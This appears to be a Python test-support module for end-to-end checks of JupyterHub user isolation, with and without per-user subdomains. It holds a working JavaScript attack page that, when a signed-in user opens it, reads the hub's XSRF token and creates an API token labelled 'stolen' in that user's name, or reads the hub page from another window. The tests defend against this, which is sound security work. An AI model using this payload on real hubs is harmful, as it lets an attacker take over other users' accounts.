"""A hub with a name for browsers, with and without an origin for each user, and somebody who attacks who visits."""

from __future__ import annotations

import io
import secrets
import tarfile
from pathlib import Path
from typing import Any, cast

import jupyterhub_signin
from support.factories.certificates import Authority
from support.hub_http import HubSession
from support.module_site import ModuleSite
from support.oauth_hub import DEFAULTS
from support.oauth_provider import OAuthProvider
from support.ports import free_port

#: Chromium's flag in tests/e2e/conftest.py maps all names below .test to this machine.
HOST = "hub.test"
NAMED_SERVERS = "c.JupyterHub.allow_named_servers = True"

#: A page that tries to create an API token in the name of anyone who opens it (?how=token), or to read the hub's page
#: in another window (?how=page), at the origin ?hub=. The result is its title.
ATTACK = """<!doctype html><title>busy</title><script>
async function token(hub) {
  const home = await (await fetch(hub + "/hub/home", {credentials: "include"})).text();
  const xsrf = home.match(/xsrf_token: "([^"]+)"/)[1], name = home.match(/user: "([^"]+)"/)[1];
  const made = await fetch(`${hub}/hub/api/users/${name}/tokens`, {
    method: "POST", credentials: "include", body: JSON.stringify({note: "stolen"}),
    headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"}});
  return `${made.status} ${name}`;
}
async function page(hub) {
  const other = open(hub + "/hub/home");
  for (let i = 0; i < 50 && other.location.href == "about:blank"; i++) await new Promise(done => setTimeout(done, 100));
  for (let i = 0; i < 50 && !other.document.body; i++) await new Promise(done => setTimeout(done, 100));
  return other.document.documentElement.outerHTML.match(/user: "([^"]+)"/)[1];
}
const query = new URLSearchParams(location.search);
({token, page})[query.get("how")](query.get("hub"))
  .then(text => document.title = text, error => document.title = "failed: " + error);
</script>"""


class OriginSite(ModuleSite):
    """A hub at ``hub.test``.

    Args:
        subdomains: whether each user has an origin.
        tls: whether browsers use HTTPS.
        provider: GitHub, if there is one.

    Attributes:
        authority: of the certificate, if browsers use HTTPS.
    """

    def __init__(
        self,
        name: str,
        hub: str,
        proxy: str,
        notebook: str,
        front: str,
        config_dir: Path,
        subdomains: bool,
        tls: bool = False,
        provider: OAuthProvider | None = None,
    ) -> None:
        super().__init__(name, hub, proxy, notebook, front, str(config_dir))
        self.authority = Authority() if tls else None
        self.scheme, self.public_port = ("https", free_port()) if tls else ("http", self.port)
        self.settings = {"public_url": f"{self.origin()}/", "subdomains": subdomains}
        if self.authority:
            issued = self.authority.issue(HOST, f"*.{HOST}")
            self.front_settings = {
                "https": "own", "domain": HOST, "subdomains": subdomains, "https_port": self.public_port,
                "certificate": issued.chain, "key": issued.key,
            }  # fmt: skip
        self.extra_config = NAMED_SERVERS
        if provider:
            settings = {
                **DEFAULTS, "authenticators": ["native", "github"], "github_url": provider.url,
                "github_client_secret": provider.client_secret, "github_allow_all": True,
            }  # fmt: skip
            self.settings["authenticators"] = jupyterhub_signin.entries(settings)
            self.sign_in_secrets = jupyterhub_signin.secret_values(settings)
            provider.callback = f"{self.origin()}/hub/"

    def origin(self, label: str = "") -> str:
        """Return the hub's origin, or the one of a user by its label."""
        return f"{self.scheme}://{f'{label}.' if label else ''}{HOST}:{self.public_port}"

    def start(self) -> None:
        """Create everything."""
        self.prepare()
        self.run_proxy()
        self.run_hub()

    def session(self, name: str, password: str = "") -> HubSession:
        """Return the session of a user, who signs up with a random password unless one is given."""
        session = HubSession(self.origin())
        if not password:
            password = secrets.token_hex(8)
            session.sign_up(name, password)
        assert session.sign_in(name, password)
        return session

    def publish(self, name: str, page: str, text: str) -> None:
        """Let a user's running server serve a page to everybody, as its user can."""
        container = self.client.containers.get(f"{self.name}-jupyter-{name}")
        code = "import jupyter_server, os; print(os.path.join(os.path.dirname(jupyter_server.__file__), 'static'))"
        status, output = container.exec_run(["python3", "-c", code])
        assert status == 0, output
        archive = io.BytesIO()
        with tarfile.open(fileobj=archive, mode="w") as tar:
            entry = tarfile.TarInfo(page)
            entry.size, entry.mode = len(text.encode()), 0o644
            tar.addfile(entry, io.BytesIO(text.encode()))
        assert container.put_archive(cast(bytes, output).decode().strip(), archive.getvalue())

    def stolen_tokens(self, session: HubSession, name: str) -> list[dict[str, Any]]:
        """Return the API tokens that the attack created in the name of a user."""
        found = session.api("GET", f"/users/{name}/tokens").json()["api_tokens"]
        return [token for token in found if token["note"] == "stolen"]
